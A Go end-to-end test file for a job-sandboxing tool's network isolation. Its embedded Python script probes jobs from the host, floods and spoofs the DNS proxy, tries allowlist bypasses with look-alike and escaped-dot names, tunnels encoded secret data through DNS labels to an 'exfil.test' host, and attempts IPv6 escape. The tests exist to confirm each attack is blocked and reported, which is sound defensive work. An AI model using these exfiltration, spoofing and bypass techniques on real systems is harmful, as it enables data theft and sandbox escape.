package e2e

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"os/user"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/google/nftables"
	"github.com/securetrain/securetrain/internal/nettest"
	"github.com/securetrain/securetrain/netguard"
	"github.com/securetrain/securetrain/violation"
	"github.com/vishvananda/netlink"
)

// Attacks on a job's network boundary: from the host (another user, root,
// a routed namespace) into a job and against its DNS proxy, from other
// jobs, and from a trojaned package inside the job against the proxy's
// name matching and the allowlist.

// attackNetScript plays both sides: the victim job (listen: count what
// arrives on TCP and UDP port P until a line on stdin) and the attacker,
// inside a job or on the host (tcp, udp, dns with hand-built queries).
// "ns" as a host means the job's own nameserver (its DNS proxy).
const attackNetScript = `import random, re, socket, struct, sys, threading, time
def out(*a): print(*a, flush=True)
def host(h):
    if h == "ns":
        for l in open("/etc/resolv.conf"):
            f = l.split()
            if f and f[0] == "nameserver":
                return f[1]
    return h
def query(name, qtype):
    # Labels split at dots not escaped by a backslash: "a\.b.c" is the
    # label "a.b" under "c", as a stub resolver would send it.
    labels = [l.replace("\\.", ".").encode() for l in re.split(r"(?<!\\)\.", name) if l]
    body = b"".join(bytes([len(l)]) + l for l in labels) + b"\0"
    return struct.pack(">HHHHHH", random.randint(0, 65535), 0x0100, 1, 0, 0, 0) + body + struct.pack(">HH", qtype, 1)
a, i = sys.argv[1:], 0
while i < len(a):
    c = a[i]; i += 1
    if c == "listen":
        p = int(a[i]); i += 1
        got = [0]
        lock = threading.Lock()
        def add(n):
            with lock: got[0] += n
        def tcp():
            s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            s.bind(("0.0.0.0", p)); s.listen(16)
            while True:
                conn, _ = s.accept(); add(1)
                try:
                    conn.sendall(b"job-secret"); conn.settimeout(2); add(len(conn.recv(4096)))
                except OSError:
                    pass
                conn.close()
        def udp():
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("0.0.0.0", p))
            while True:
                add(len(s.recvfrom(4096)[0]))
        for f in (tcp, udp):
            threading.Thread(target=f, daemon=True).start()
        time.sleep(0.3)
        out("listening")
        for l in sys.stdin:  # "count K": report; "end" or EOF: stop
            if not l.startswith("count"):
                break
            with lock: out("received:%s:%d" % (l.split()[1], got[0]))
    elif c in ("tcp", "tcp6"):
        h, p = host(a[i]), int(a[i+1]); i += 2
        try:
            s = socket.create_connection((h, p), timeout=2)
            s.sendall(b"attacker-hello"); s.settimeout(2)
            out("tcp:%s:%d:got:%d" % (h, p, len(s.recv(4096))))
        except OSError as e:
            out("tcp:%s:%d:got:0:%s" % (h, p, e))
    elif c == "udp":
        h, p = host(a[i]), int(a[i+1]); i += 2
        try:
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"attacker-datagram", (h, p))
            out("udp:%s:%d:sent" % (h, p))
        except OSError as e:  # a drop in the host's output path says EPERM
            out("udp:%s:%d:refused:%s" % (h, p, e))
    elif c == "dns":  # dns HOST NAME QTYPE udp|tcp: one query, the answer's rcode and answer count
        h, name, qt, proto = host(a[i]), a[i+1], int(a[i+2]), a[i+3]; i += 4
        try:
            q = query(name, qt)
            if proto == "tcp":
                s = socket.create_connection((h, 53), timeout=2)
                s.sendall(struct.pack(">H", len(q)) + q); r = s.recv(4096)[2:]
            else:
                s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
                s.sendto(q, (h, 53)); r = s.recvfrom(4096)[0]
            out("dns:%s:%d:%s:rcode:%d:answers:%d" % (name, qt, proto, r[3] & 15, struct.unpack(">H", r[6:8])[0]))
        except OSError as e:
            out("dns:%s:%d:%s:silent:%s" % (name, qt, proto, e))
    elif c == "flood":  # flood HOST N: N queries for refused names, no waiting
        h, n = host(a[i]), int(a[i+1]); i += 2
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        for k in range(n):
            try:
                s.sendto(query("kill-me-%d.invalid" % k, 1), (h, 53))
            except OSError:
                pass
        out("flood:%d" % n)
    elif c == "wait":
        out("waiting"); sys.stdin.readline()
    elif c == "sleep":
        time.sleep(float(a[i])); i += 1
out("done")
`

// victimProfile: a job of an allocation whose peers may reach it on 7777.
const victimProfile = "version: 1\nname: victim\nnetwork:\n  mode: sandbox\n  peer_ports: [\"7777\"]\n"

// fedJob is a securetrain run in the background, fed through its stdin.
type fedJob struct {
	in        io.WriteCloser
	out, errb *syncBuffer
	done      chan struct{}
	code      int
}

// result waits for the launcher to end and returns what it said.
func (j *fedJob) result() result {
	<-j.done
	return result{j.out.String(), j.errb.String(), j.code}
}

// startLive starts securetrain run --user st-e2e FLAGS -- COMMAND in the
// background; the job reads its stdin from the returned job's in.
func (n *netEnv) startLive(t *testing.T, dir string, flags []string, command ...string) *fedJob {
	t.Helper()
	return startFed(t, n.cmd(t.Context(), dir, nil, jobArgs(flags, command...)...))
}

// startFed starts c in the background with its stdin on a pipe (the
// returned job's in) and its output in buffers. At cleanup stdin is closed
// (EOF lets the job go on to its end) and a launcher still running after
// 30 s is stopped (SIGTERM: it tears down).
func startFed(t *testing.T, c *exec.Cmd) *fedJob {
	t.Helper()
	rd, wr, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	j := &fedJob{in: wr, out: &syncBuffer{}, errb: &syncBuffer{}, done: make(chan struct{})}
	c.Stdin, c.Stdout, c.Stderr = rd, j.out, j.errb
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	rd.Close()
	go func() {
		c.Wait()
		j.code = c.ProcessState.ExitCode()
		close(j.done)
	}()
	t.Cleanup(func() {
		wr.Close()
		select {
		case <-j.done:
		case <-time.After(30 * time.Second):
			c.Process.Signal(syscall.SIGTERM)
			<-j.done
		}
	})
	return j
}

// victim is a listening job (TCP and UDP 7777) of allocation 51, its
// address, its DNS proxy's and its nftables table.
type victim struct {
	*fedJob
	addr, proxy netip.Addr
	table       string
	started     time.Time
	asked       int // count requests so far
}

func (n *netEnv) startVictim(t *testing.T) *victim {
	t.Helper()
	dir := n.project(t, map[string]string{"attack.py": attackNetScript, "victim.yaml": victimProfile})
	tag := "victim-" + nettest.RandTag()
	j := n.startLive(t, dir, []string{"--profile", "victim.yaml", "--allocation", "51"},
		"/usr/bin/python3", "-I", "attack.py", "listen", "7777", tag)
	waitFor(t, j.out, "listening")
	v := &victim{fedJob: j, started: time.Now()}
	v.table, v.addr = n.psJob(t, dir, tag)
	v.proxy = v.addr.Prev() // the host end of the job's /30
	return v
}

// psJob finds the running job whose command holds tag in ps: its nftables
// table and its address.
func (n *netEnv) psJob(t *testing.T, dir, tag string) (table string, addr netip.Addr) {
	t.Helper()
	for _, l := range strings.Split(n.run(t, dir, nil, "ps").stdout, "\n") {
		f := strings.Fields(l)
		if !strings.Contains(l, tag) || len(f) < 8 {
			continue
		}
		a, _, _ := strings.Cut(f[7], "@")
		addr, _ = netip.ParseAddr(a)
		return netguard.NamePrefix + f[0], addr
	}
	t.Fatalf("no job with %q in ps", tag)
	return "", addr
}

// received is what the victim has received from outside so far: bytes,
// plus one for each TCP connection it accepted.
func (v *victim) received(t *testing.T) int {
	t.Helper()
	time.Sleep(300 * time.Millisecond) // datagrams in flight land first
	v.asked++
	fmt.Fprintf(v.in, "count %d\n", v.asked)
	want := fmt.Sprintf("received:%d:", v.asked)
	waitFor(t, v.out, want)
	_, rest, _ := strings.Cut(v.out.String(), want)
	n, err := strconv.Atoi(strings.TrimSpace(strings.SplitN(rest, "\n", 2)[0]))
	if err != nil {
		t.Fatalf("victim count: %v", err)
	}
	return n
}

// finish lets the victim end; it must have survived every attack.
func (v *victim) finish(t *testing.T) {
	t.Helper()
	v.in.Write([]byte("end\n"))
	if r := v.result(); r.code != 0 || !strings.Contains(r.stdout, "done") {
		t.Fatalf("the victim job did not survive the attacks:\n%s", r)
	}
}

// refused reads the victim's counters of refused inbound packets and of
// DNS packets to its proxy that did not come from its veth.
func (v *victim) refused(t *testing.T) (in, proxy uint64) {
	t.Helper()
	c, err := nftables.New()
	if err != nil {
		t.Fatal(err)
	}
	objs, err := c.GetObjects(&nftables.Table{Family: nftables.TableFamilyINet, Name: v.table})
	if err != nil {
		t.Fatalf("counters of %s: %v", v.table, err)
	}
	for _, o := range objs {
		if ctr, ok := o.(*nftables.CounterObj); ok {
			switch ctr.Name {
			case "in_refused":
				in = ctr.Packets
			case "proxy_refused":
				proxy = ctr.Packets
			}
		}
	}
	return in, proxy
}

// attacker runs the attack script on the host as user (root: "").
func attacker(t *testing.T, username string, args ...string) string {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), 2*time.Minute)
	defer cancel()
	dir := tempTree(t, "st-e2e-attacker-", map[string]string{"attack.py": attackNetScript})
	c := exec.CommandContext(ctx, "/usr/bin/python3", append([]string{"-I", filepath.Join(dir, "attack.py")}, args...)...)
	c.Env = []string{"PATH=/usr/bin:/bin"}
	if username != "" {
		u, err := user.Lookup(username)
		if err != nil {
			t.Fatal(err)
		}
		uid, _ := strconv.Atoi(u.Uid)
		gid, _ := strconv.Atoi(u.Gid)
		c.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: uint32(uid), Gid: uint32(gid)}}
		c.Dir = "/"
	}
	out, err := c.CombinedOutput()
	if err != nil || !strings.Contains(string(out), "done") {
		t.Fatalf("attacker %s %v: %v\n%s", username, args, err, out)
	}
	return string(out)
}

// gotBytes sums the "got:N" of every tcp line of an attack's output.
func gotBytes(out string) int {
	n := 0
	for _, l := range strings.Split(out, "\n") {
		if _, rest, ok := strings.Cut(l, ":got:"); ok && strings.HasPrefix(l, "tcp:") {
			v, _, _ := strings.Cut(rest, ":")
			k, _ := strconv.Atoi(v)
			n += k
		}
	}
	return n
}

// answered counts the DNS answers (any rcode) in an attack's output.
func answered(out string) int { return strings.Count(out, ":rcode:") }

// TestAttackHostIntoJob: while a job of an allocation listens on TCP and
// UDP 7777 (its peer port), the host attacks it: another unprivileged
// user and root connect and send datagrams, a namespace routed through the
// host connects, a job of another allocation and a job of none dial it.
// The victim receives nothing, every refusal is counted, it lives on.
func TestAttackHostIntoJob(t *testing.T) {
	n := setupNet(t)
	v := n.startVictim(t)
	to := []string{v.addr.String(), "7777"}
	// Each case: what the attacker read back, and what the job received.
	check := func(t *testing.T, what string, attack func() int) {
		before := v.received(t)
		read := attack()
		got := v.received(t) - before
		attackFigure(t, "bytes_read_from_job=%d job_received=%d (want 0, 0)", read, got)
		if read != 0 || got != 0 {
			t.Errorf("%s: read %d bytes from the job, the job received %d", what, read, got)
		}
	}
	t.Run("OtherUserTCP", func(t *testing.T) {
		check(t, "another user", func() int { return gotBytes(attacker(t, otherUser, append([]string{"tcp"}, to...)...)) })
	})
	t.Run("RootProcessTCP", func(t *testing.T) {
		check(t, "a root host process", func() int { return gotBytes(attacker(t, "", append([]string{"tcp"}, to...)...)) })
	})
	t.Run("OtherUserUDP", func(t *testing.T) {
		check(t, "another user's datagrams", func() int { attacker(t, otherUser, append([]string{"udp"}, to...)...); return 0 })
	})
	t.Run("RoutedNamespaceTCP", func(t *testing.T) {
		check(t, "a namespace routed through the host", func() int {
			var got int
			err := nettest.InNetns(n.w.ServerNetns("evil"), func() error {
				c, err := net.DialTimeout("tcp4", netip.AddrPortFrom(v.addr, 7777).String(), 2*time.Second)
				if err != nil {
					return nil
				}
				defer c.Close()
				c.SetDeadline(time.Now().Add(2 * time.Second))
				got, _ = c.Read(make([]byte, 64))
				return nil
			})
			if err != nil {
				t.Fatal(err)
			}
			return got
		})
	})
	dir := n.project(t, map[string]string{"attack.py": attackNetScript, "victim.yaml": victimProfile})
	otherJob := func(t *testing.T, flags ...string) {
		rp := filepath.Join(dir, "report.json")
		os.Remove(rp)
		check(t, "another job", func() int {
			r := n.job(t, dir, append(flags, "--report", rp), "/usr/bin/python3", "-I", "attack.py", "tcp", v.addr.String(), "7777")
			wantKilled(t, r, readReport(t, rp, r), "tcp", v.addr.String(), 7777)
			return gotBytes(r.stdout)
		})
	}
	t.Run("OtherAllocationPeerPort", func(t *testing.T) { otherJob(t, "--profile", "victim.yaml", "--allocation", "52") })
	t.Run("OtherJobTCP", func(t *testing.T) { otherJob(t, "--allow", "allowed.test:8080") })

	in, _ := v.refused(t)
	alive := time.Since(v.started)
	v.finish(t)
	attackFigure(t, "inbound_refused_packets=%d (want >= 4), victim alive %.1fs and exit 0", in, alive.Seconds())
	if in < 4 {
		t.Errorf("inbound refusals counted: %d, want at least the 4 host attempts", in)
	}
}

// TestAttackHostKillsJobViaProxy: the DNS proxy of an enforce job counts a
// refused lookup as the job's violation; others on the host try to make it
// judge theirs: another user over UDP and TCP, root, a flood of 2000
// queries, a namespace routed through the host, and that namespace with
// the job's own address as source. None is answered, none kills the job.
func TestAttackHostKillsJobViaProxy(t *testing.T) {
	n := setupNet(t)
	v := n.startVictim(t)
	proxy := v.proxy.String()
	for _, c := range []struct {
		name, user, proto string
	}{{"OtherUserForgedQueryUDP", otherUser, "udp"}, {"OtherUserForgedQueryTCP", otherUser, "tcp"}, {"RootForgedQuery", "", "udp"}} {
		t.Run(c.name, func(t *testing.T) {
			out := attacker(t, c.user, "dns", proxy, "kill-me.invalid", "1", c.proto)
			attackFigure(t, "answers=%d (want 0)", answered(out))
			if answered(out) != 0 {
				t.Errorf("the proxy answered a host process:\n%s", out)
			}
		})
	}
	t.Run("HostFlood", func(t *testing.T) {
		_, before := v.refused(t)
		attacker(t, otherUser, "flood", proxy, "2000")
		_, after := v.refused(t)
		attackFigure(t, "queries=2000 dropped_before_proxy=%d (want 2000)", after-before)
		if after-before < 2000 {
			t.Errorf("of 2000 flooded queries %d were dropped before the proxy", after-before)
		}
	})
	evil := n.w.ServerNetns("evil")
	send := func(t *testing.T, src netip.Addr) int {
		var answers int
		err := nettest.InNetns(evil, func() error {
			laddr := &net.UDPAddr{}
			if src.IsValid() {
				lo, err := netlink.LinkByName("lo")
				if err != nil {
					return err
				}
				if err := netlink.AddrAdd(lo, &netlink.Addr{IPNet: &net.IPNet{IP: src.AsSlice(), Mask: net.CIDRMask(32, 32)}}); err != nil {
					return err
				}
				defer netlink.AddrDel(lo, &netlink.Addr{IPNet: &net.IPNet{IP: src.AsSlice(), Mask: net.CIDRMask(32, 32)}})
				laddr.IP = src.AsSlice()
			}
			c, err := net.DialUDP("udp4", laddr, net.UDPAddrFromAddrPort(netip.AddrPortFrom(v.proxy, 53)))
			if err != nil {
				return err
			}
			defer c.Close()
			// A query for kill-me.invalid, type A.
			q := []byte("\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07kill-me\x07invalid\x00\x00\x01\x00\x01")
			if _, err := c.Write(q); err != nil {
				return err
			}
			c.SetReadDeadline(time.Now().Add(2 * time.Second))
			if _, err := c.Read(make([]byte, 512)); err == nil {
				answers++
			}
			return nil
		})
		if err != nil {
			t.Fatal(err)
		}
		return answers
	}
	t.Run("RoutedNamespaceQuery", func(t *testing.T) {
		a := send(t, netip.Addr{})
		attackFigure(t, "answers=%d (want 0)", a)
		if a != 0 {
			t.Error("the proxy answered another namespace")
		}
	})
	t.Run("SpoofedJobSourceQuery", func(t *testing.T) {
		a := send(t, v.addr)
		attackFigure(t, "answers=%d (want 0)", a)
		if a != 0 {
			t.Error("the proxy answered a query spoofing the job's address from another interface")
		}
	})
	if n.w.Seen("kill-me.invalid") {
		t.Error("a forged query reached the upstream resolver")
	}
	alive := time.Since(v.started)
	_, proxyDropped := v.refused(t)
	v.finish(t)
	attackFigure(t, "victim alive %.1fs through every forged query, exit 0; proxy packets dropped=%d", alive.Seconds(), proxyDropped)
}

// netTrojanProfile: block (not enforce), so that one sandbox plays every
// case; enforce would end the job at the first (TestNetworkBlocked).
const netTrojanProfile = "version: 1\nname: trojan\nnetwork:\n  mode: sandbox\n  policy: block\n  allow: [\"*.svc.test:8080\", \"allowed.test:8080\"]\n"

// TestAttackJobNetwork: a trojaned package inside a job allowed *.svc.test
// and allowed.test tries the proxy's name matching (a look-alike without
// the dot, an escaped dot that makes "evil.svc" one label under test),
// tunnels data in TXT lookups, reaches a host service on the host end of
// its veth and goes IPv6. Nothing is forwarded upstream, nothing connects.
func TestAttackJobNetwork(t *testing.T) {
	n := setupNet(t)
	dir := n.project(t, map[string]string{"attack.py": attackNetScript, "trojan.yaml": netTrojanProfile})
	rp := filepath.Join(dir, "report.json")
	r := n.job(t, dir, []string{"--profile", "trojan.yaml", "--report", rp}, "/usr/bin/python3", "-I", "attack.py",
		"dns", "ns", "xsvc.test", "1", "udp",
		"dns", "ns", `evil\.svc.test`, "1", "udp",
		"dns", "ns", "api.svc.test", "16", "udp",
		"dns", "ns", "c2VjcmV0LWtleQ.exfil.test", "16", "udp",
		"dns", "ns", "c2VjcmV0LWtleQ.allowed.test", "1", "tcp",
		"tcp", "ns", strconv.Itoa(n.w.HostPort),
		"tcp6", n.w.Evil6.String(), "8080",
		"tcp", "allowed.test", "8080")
	if r.code != 0 || !strings.Contains(r.stdout, "done") || !strings.Contains(r.stdout, "tcp:allowed.test:8080:got:7") {
		t.Fatalf("the job must run through (policy block) and still reach allowed.test:8080:\n%s", r)
	}
	rep := readReport(t, rp, r)
	line := func(prefix string) string {
		for _, l := range strings.Split(r.stdout, "\n") {
			if strings.HasPrefix(l, prefix) {
				return l
			}
		}
		t.Fatalf("no %q line:\n%s", prefix, r)
		return ""
	}
	const tunnel = "c2VjcmV0LWtleQ" // base32-ish data riding in a label
	upstream := n.w.Queries()
	asked := func(sub string) int {
		k := 0
		for _, q := range upstream {
			if strings.Contains(q, sub) {
				k++
			}
		}
		return k
	}
	for _, c := range []struct{ name, prefix, upstream string }{
		{"LookalikeName", "dns:xsvc.test:1:", "xsvc"},
		{"EscapedDotName", `dns:evil\.svc.test:1:`, "evil"},
		{"TunnelTXTAllowedName", "dns:api.svc.test:16:", "api.svc.test"},
		{"TunnelTXTOtherName", "dns:" + tunnel + ".exfil.test:16:", strings.ToLower(tunnel)},
		{"TunnelLabelExactName", "dns:" + tunnel + ".allowed.test:1:", strings.ToLower(tunnel)},
	} {
		t.Run(c.name, func(t *testing.T) {
			l := line(c.prefix)
			attackFigure(t, "upstream_queries=%d (want 0); answer %s", asked(c.upstream), l)
			if asked(c.upstream) != 0 {
				t.Errorf("the upstream resolver was asked %q: %v", c.upstream, upstream)
			}
			if !strings.Contains(l, ":answers:0") {
				t.Errorf("the proxy answered with data: %s", l)
			}
		})
	}
	t.Run("HostServiceOnVeth", func(t *testing.T) {
		got := gotBytes(line("tcp:" + n.w.Pool.Addr().String()[:len("10.217.")]))
		attackFigure(t, "bytes_from_host_service=%d (want 0)", got)
		if got != 0 || !blocked(rep, n.w.HostPort) {
			t.Errorf("the host service on the veth answered (%d bytes) or the attempt was not recorded: %+v", got, rep.Violations)
		}
	})
	t.Run("IPv6", func(t *testing.T) {
		got := gotBytes(line("tcp:" + n.w.Evil6.String()))
		attackFigure(t, "bytes_over_ipv6=%d (want 0)", got)
		if got != 0 {
			t.Errorf("IPv6 got through: %d bytes", got)
		}
	})
	for _, name := range []string{"xsvc.test", `evil\.svc.test`, tunnel + ".exfil.test", tunnel + ".allowed.test"} {
		if !refusedName(rep, name) {
			t.Errorf("the refused lookup of %s is not in the report: %+v", name, rep.Violations)
		}
	}
}

// blocked reports whether the report holds a blocked TCP attempt on port.
func blocked(rep report, port int) bool {
	for _, v := range rep.Violations {
		if v.Kind == violation.Network && v.Proto == "tcp" && v.Port == port && v.Action == violation.Blocked {
			return true
		}
	}
	return false
}

// refusedName reports whether the report holds a refused lookup of name.
func refusedName(rep report, name string) bool {
	for _, v := range rep.Violations {
		if v.Kind == violation.DNS && strings.EqualFold(v.Dest, name) {
			return true
		}
	}
	return false
}

// TestAttackControlDistributedPeers: two jobs of one allocation train
// together (gloo, world size 2, rank 0 found by the host's name) while
// another user dials rank 0's rendezvous port and floods its DNS proxy
// with forged queries. Both ranks finish their all_reduce; neither is
// killed; the attacker reads nothing.
func TestAttackControlDistributedPeers(t *testing.T) {
	n := setupNet(t)
	pythonWithTorch(t)
	ctx, cancel := context.WithTimeout(t.Context(), 4*time.Minute)
	defer cancel()
	rdzv, ranks := startRanks(ctx, t, n, "61")
	dir := n.project(t, nil)
	for deadline := time.Now().Add(time.Minute); time.Now().Before(deadline); time.Sleep(100 * time.Millisecond) {
		if strings.Contains(n.run(t, dir, nil, "ps").stdout, rdzv.String()+"@61") {
			break
		}
	}
	out := attacker(t, otherUser, "tcp", rdzv.String(), "29500", "flood", rdzv.Prev().String(), "500",
		"dns", rdzv.Prev().String(), "kill-me.invalid", "1", "udp", "tcp", rdzv.String(), "29500")
	r0, r1 := <-ranks[0], <-ranks[1]
	wantAllReduce(t, rdzv, r0, r1)
	attackFigure(t, "ranks_finished=2 killed=0 (want 2, 0); attacker bytes_read=%d answers=%d (want 0, 0)", gotBytes(out), answered(out))
	if gotBytes(out) != 0 || answered(out) != 0 {
		t.Errorf("the attacker got through while the ranks trained:\n%s", out)
	}
}

// TestAttackJobEgressSetFull: the per-destination accounting set holds
// 65,535 addresses, and a full set once turned into an uncounted accept
// (past the egress budget). The test fills the job's set while it waits
// (standing in for 65,535 earlier destinations, which a sandbox sends too
// slowly for CI), then the job connects to its allowed server: dropped,
// reported as uncountable, and not a kill (enforce).
func TestAttackJobEgressSetFull(t *testing.T) {
	n := setupNet(t)
	allowed := n.w.AllowedIP.String()
	dir := n.project(t, map[string]string{"attack.py": attackNetScript})
	tag := "spray-" + nettest.RandTag()
	rp := filepath.Join(dir, "report.json")
	j := n.startLive(t, dir, []string{"--allow", "tcp:" + allowed + ":8080", "--report", rp},
		"/usr/bin/python3", "-I", "attack.py", "wait", "tcp", allowed, "8080", tag)
	waitFor(t, j.out, "waiting")
	table, _ := n.psJob(t, dir, tag)
	c, err := nftables.New()
	if err != nil {
		t.Fatal(err)
	}
	set, err := c.GetSetByName(&nftables.Table{Family: nftables.TableFamilyINet, Name: table}, "egress4")
	if err != nil {
		t.Fatal(err)
	}
	a := netip.MustParseAddr("192.0.2.0") // keys only: nothing is sent there
	for k := 0; k < 65535; {
		var els []nftables.SetElement
		for ; k < 65535 && len(els) < 2048; k++ {
			els = append(els, nftables.SetElement{Key: a.AsSlice()})
			a = a.Next()
		}
		if err := c.SetAddElements(set, els); err != nil {
			t.Fatal(err)
		}
		if err := c.Flush(); err != nil {
			t.Fatalf("fill %s: %v", set.Name, err)
		}
	}
	j.in.Write([]byte("go\n"))
	r := j.result()
	if r.code != 0 || !strings.Contains(r.stdout, "done") {
		t.Fatalf("the job must run on (an uncountable destination is dropped, not a kill):\n%s", r)
	}
	rep := readReport(t, rp, r)
	got, full := gotBytes(r.stdout), 0
	for _, v := range rep.Violations {
		if v.Dest == allowed && strings.Contains(v.Detail, "egress accounting") && v.Action == violation.Blocked {
			full++
		}
	}
	attackFigure(t, "bytes_from_allowed_server_past_full_set=%d refusals_reported=%d (want 0, 1)", got, full)
	if got != 0 || full != 1 {
		t.Errorf("past a full accounting set: %d bytes from the allowed server, %d refusals reported: %+v", got, full, rep.Violations)
	}
}
